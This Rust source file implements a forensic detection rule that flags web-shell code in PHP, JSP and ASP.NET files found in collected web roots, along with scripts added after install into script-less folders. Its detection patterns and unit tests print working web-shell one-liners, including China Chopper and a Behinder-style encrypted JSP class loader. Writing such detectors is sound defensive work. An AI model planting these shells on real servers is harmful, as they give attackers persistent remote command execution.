//! `web.webshell_file` — web-shell code in a script file of a collected web root: what the
//! web-shell requests of `web.webshell` and `exchange.webshell` ran, found on disk even when
//! the logs that would show its use are gone.
//!
//! **Why**: a shell dropped through an exploit (Zimbra's JSPs, Roundcube uploads, Exchange's
//! `aspnet_client` `.aspx`) outlives the patch and the log rotation; `collect` stores every
//! script file of each web root it finds (webmail installs, vhost roots, Exchange's web
//! folders). **How**: each script file (`.php`, `.phtml`, `.jsp`, `.jspx`, `.aspx`, `.ashx`,
//! `.asp` …) is read with white space removed and letters lower-cased, and matched against the
//! code shapes of web shells — a command or evaluation function called **directly on request
//! input** or on decoded data: PHP `eval($_POST[…])`, `assert($_REQUEST…)`,
//! `system($_GET…)` and its siblings, `eval(base64_decode(…))`, `eval(gzinflate(…))`,
//! `preg_replace` with `/e`; JSP `Runtime.getRuntime().exec(request.getParameter(…))`,
//! `new ProcessBuilder(request…)`, a class defined from the request's bytes (Behinder,
//! Godzilla); ASP.NET `eval(Request.Item[…],"unsafe")` (China Chopper),
//! `Process.Start` with request input, `Assembly.Load(Convert.FromBase64String(Request…))`.
//! Application code passes request input through its own helpers first, so the direct shapes
//! are the shells'. One finding per file, naming the shapes and the file's hash and time.
//! A script without those shapes that was **added after its install** (modified or changed
//! more than a day after the install's median, `hostconf::webroots`) into a folder that holds
//! no scripts (`temp`, `uploads`, `skins`, `images` … as `web.webshell` lists them) is
//! reported too (high): an obfuscated or encrypted shell has no shape to match.
//! **ATT&CK**: T1505.003. **Phase**: persistence. **Severity**: critical (code shapes), high
//! (added into a script-less folder). **False positives**:
//! an administrator's own debugging script left in a web root (it is a web shell all the same:
//! remove it).

use super::super::host::{Cites, ConfigRule, Host};
use super::web::is_script_extension;
use super::web_webshell::NO_SCRIPTS;
use crate::detect::finding::{Finding, Severity};

/// Largest part of a file read (collect stores script files up to 2 MiB).
const MAX_READ: usize = 2 << 20;

/// One web-shell code shape: its name and the (white-space free, lower-case) texts that make
/// it, every one of which must appear.
struct Shape {
    name: &'static str,
    all: &'static [&'static str],
}

const fn s(name: &'static str, all: &'static [&'static str]) -> Shape {
    Shape { name, all }
}

/// PHP shapes.
const PHP: &[Shape] = &[
    s("eval of request input", &["eval($_"]),
    s("eval of request input", &["eval(@$_"]),
    s("assert of request input", &["assert($_"]),
    s("assert of request input", &["assert(@$_"]),
    s("eval of decoded data", &["eval(base64_decode("]),
    s("eval of decoded data", &["eval(gzinflate("]),
    s("eval of decoded data", &["eval(gzuncompress("]),
    s("eval of decoded data", &["eval(str_rot13("]),
    s("command from request input", &["system($_"]),
    s("command from request input", &["passthru($_"]),
    s("command from request input", &["shell_exec($_"]),
    s("command from request input", &["exec($_"]),
    s("command from request input", &["popen($_"]),
    s("command from request input", &["proc_open($_"]),
    s("preg_replace /e", &["preg_replace(", "/e\","]),
    s("preg_replace /e", &["preg_replace(", "/e',"]),
    s(
        "function from request input",
        &["create_function(", "$_post"],
    ),
];

/// JSP shapes.
const JSP: &[Shape] = &[
    s(
        "Runtime.exec of a request parameter",
        &["runtime.getruntime().exec(request.getparameter("],
    ),
    s(
        "command from a request parameter",
        &[".exec(", "request.getparameter(", "getinputstream()"],
    ),
    s(
        "ProcessBuilder from the request",
        &["newprocessbuilder(", "request.getparameter("],
    ),
    s(
        "class defined from the request's bytes (Behinder/Godzilla)",
        &["defineclass(", "request.get"],
    ),
];

/// ASP and ASP.NET shapes.
const ASP: &[Shape] = &[
    s(
        "eval of request input (China Chopper)",
        &["eval(request.item["],
    ),
    s("eval of request input (China Chopper)", &["eval(request["]),
    s(
        "eval of request input (China Chopper)",
        &["eval(request.form["],
    ),
    s("execute of request input", &["execute(request("]),
    s("command from request input", &["process.start(", "request"]),
    s(
        "assembly loaded from the request",
        &["assembly.load(", "frombase64string(", "request"],
    ),
];

/// The web-shell shapes in a script with extension `ext` (lower case), by name.
pub fn shapes(ext: &str, data: &[u8]) -> Vec<&'static str> {
    let set = match ext {
        "php" | "php3" | "php4" | "php5" | "php7" | "phtml" | "phar" => PHP,
        "jsp" | "jspx" | "jspf" => JSP,
        "asp" | "aspx" | "ashx" | "asmx" | "cer" => ASP,
        _ => return Vec::new(),
    };
    let text: String = String::from_utf8_lossy(&data[..data.len().min(MAX_READ)])
        .chars()
        .filter(|c| !c.is_whitespace())
        .flat_map(char::to_lowercase)
        .collect();
    let mut found: Vec<&'static str> = set
        .iter()
        .filter(|sh| sh.all.iter().all(|t| text.contains(t)))
        .map(|sh| sh.name)
        .collect();
    found.dedup();
    found
}

/// The extension of a host path, lower case.
fn extension(path: &str) -> Option<String> {
    let name = path.rsplit('/').next()?;
    let (_, ext) = name.rsplit_once('.')?;
    Some(ext.to_ascii_lowercase())
}

/// The rule.
pub struct WebshellFile;

/// How much later than its install's reference time a script must be to have been added
/// (seconds): a day, so the files of one unpacking or upgrade never are.
const ADDED_AFTER_S: i64 = 86_400;

/// Scripts added after their install into a folder that holds no scripts (and without the
/// code shapes, which the files' own findings report): high.
fn added(host: &Host, flagged: &[String]) -> Vec<Finding> {
    let mut out = Vec::new();
    for install in &host.webroots.installs {
        for s in install.scripts.iter().filter(|s| s.is_file()) {
            let rel = s.path.strip_prefix(&install.root).unwrap_or(&s.path);
            let folders: Vec<&str> = rel.split('/').collect();
            let odd = folders[..folders.len().saturating_sub(1)]
                .iter()
                .any(|d| NO_SCRIPTS.contains(&d.to_ascii_lowercase().as_str()));
            if !odd || flagged.contains(&s.path) || !install.newer_than_install(s, ADDED_AFTER_S) {
                continue;
            }
            let when = |t: Option<chrono::DateTime<chrono::Utc>>| {
                t.map_or("unknown".to_string(), |t| t.to_rfc3339())
            };
            let c = Cites::one(&host.conf, &s.path, None);
            out.push(c.finding(
                "web.webshell_file",
                Severity::High,
                vec!["T1505.003"],
                format!("Script added to {} after its install: {}", install.product, s.path),
                format!(
                    "{} (SHA-256 {}, modified {}, changed {}) sits in a folder that holds no scripts, and is newer than the install around it ({}, its files modified around {}): read it before removing it",
                    s.path,
                    s.sha256.as_deref().unwrap_or("not read"),
                    when(s.mtime),
                    when(s.ctime),
                    install.root,
                    when(install.reference_mtime)
                ),
            ));
        }
    }
    out
}

impl ConfigRule for WebshellFile {
    fn check(&self, host: &Host) -> Vec<Finding> {
        let mut out = Vec::new();
        let mut flagged: Vec<String> = Vec::new();
        for (path, f) in &host.conf.files {
            let Some(ext) = extension(path).filter(|e| is_script_extension(e)) else {
                continue;
            };
            let found = shapes(&ext, &f.data);
            if found.is_empty() {
                continue;
            }
            flagged.push(path.clone());
            let c = Cites::one(&host.conf, path, None);
            let hash = f
                .sha256
                .as_deref()
                .map(|h| format!(", SHA-256 {h}"))
                .unwrap_or_default();
            let when = f
                .mtime
                .map(|t| format!(", modified {}", t.to_rfc3339()))
                .unwrap_or_default();
            out.push(c.finding(
                "web.webshell_file",
                Severity::Critical,
                vec!["T1505.003"],
                format!("Web shell code in {path}"),
                format!("{path}{hash}{when}: {}", found.join(", ")),
            ));
        }
        out.extend(added(host, &flagged));
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::rules::config_tests::host;

    #[test]
    fn published_shells() {
        // China Chopper's server sides as FireEye published them (2013), and the shapes of
        // the public PHP and JSP one-liners.
        assert_eq!(
            shapes(
                "aspx",
                br#"<%@ Page Language="Jscript"%><%eval(Request.Item["password"],"unsafe");%>"#
            ),
            ["eval of request input (China Chopper)"]
        );
        assert_eq!(
            shapes("php", b"<?php @eval($_POST['password']);?>"),
            ["eval of request input"]
        );
        assert_eq!(
            shapes(
                "php",
                b"<?php\n  if (isset($_REQUEST['c'])) { system( $_REQUEST['c'] ); }\n"
            ),
            ["command from request input"]
        );
        assert_eq!(
            shapes(
                "jsp",
                br#"<%Process p=Runtime.getRuntime().exec(request.getParameter("cmd"));%>"#
            ),
            ["Runtime.exec of a request parameter"]
        );
        assert_eq!(
            shapes("jsp", br#"<%@page import="java.util.*,javax.crypto.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);%>"#),
            ["class defined from the request's bytes (Behinder/Godzilla)"]
        );
    }

    #[test]
    fn application_code_is_not_a_shell() {
        // Roundcube-style code: request input through the application's helper, commands
        // built from configuration.
        let php = br#"<?php
$uid = rcube_utils::get_input_value('_uid', rcube_utils::INPUT_GET);
$out = shell_exec(escapeshellcmd($config['spellcheck_engine']) . ' -a');
if (!empty($_POST['_token'])) { $rcmail->request_security_check(); }
eval('$x = 1;');
"#;
        assert!(shapes("php", php).is_empty());
        // A JSP page of a web application.
        let jsp = br#"<%@ page contentType="text/html" %><% String skin = request.getParameter("skin"); %><jsp:include page="/public/Resources.jsp"/>"#;
        assert!(shapes("jsp", jsp).is_empty());
    }

    #[test]
    fn a_script_added_after_the_install_into_temp() {
        use crate::hostconf::webroots::{Install, Script};
        let t = |s: &str| {
            chrono::DateTime::parse_from_rfc3339(s)
                .ok()
                .map(|t| t.to_utc())
        };
        let script = |path: &str, at: &str| Script {
            path: path.to_string(),
            shown: None,
            sha256: Some("ab".repeat(32)),
            size: Some(100),
            mtime: t(at),
            ctime: t(at),
            outcome: "collected".to_string(),
        };
        let mut h = host(&[("/etc/postfix/main.cf", "myhostname = mx\n")]);
        h.webroots.installs.push(Install {
            root: "/var/www/roundcube".into(),
            product: "roundcube",
            version: Some("1.6.5".into()),
            reference_mtime: t("2025-01-10T00:00:00Z"),
            reference_ctime: t("2025-01-10T00:00:00Z"),
            scripts: vec![
                script("/var/www/roundcube/index.php", "2025-01-10T00:00:00Z"),
                // A plugin updated later, where plugins live: not reported.
                script("/var/www/roundcube/plugins/x/x.php", "2026-11-01T00:00:00Z"),
                // An encrypted shell dropped into temp/: no shape, but added there.
                script("/var/www/roundcube/temp/y.php", "2026-11-30T03:00:00Z"),
                // A shipped file in skins/ at install time: not reported.
                script(
                    "/var/www/roundcube/skins/elastic/templates.php",
                    "2025-01-10T00:00:00Z",
                ),
            ],
        });
        let f = WebshellFile.check(&h);
        let titles: Vec<&str> = f.iter().map(|f| f.title.as_str()).collect();
        assert_eq!(
            titles,
            ["Script added to roundcube after its install: /var/www/roundcube/temp/y.php"]
        );
        assert_eq!(f[0].severity, Severity::High);
    }

    #[test]
    fn one_finding_per_shell_file() {
        let h = host(&[
            (
                "/var/www/roundcube/temp/x.php",
                "<?php @eval($_POST['z']);?>",
            ),
            (
                "/var/www/roundcube/index.php",
                "<?php require 'program/include/iniset.php';",
            ),
            ("/etc/postfix/main.cf", "myhostname = mx\n"),
        ]);
        let f = WebshellFile.check(&h);
        assert_eq!(f.len(), 1);
        assert_eq!(
            f[0].title,
            "Web shell code in /var/www/roundcube/temp/x.php"
        );
        assert!(f[0].summary.ends_with("eval of request input"));
    }
}
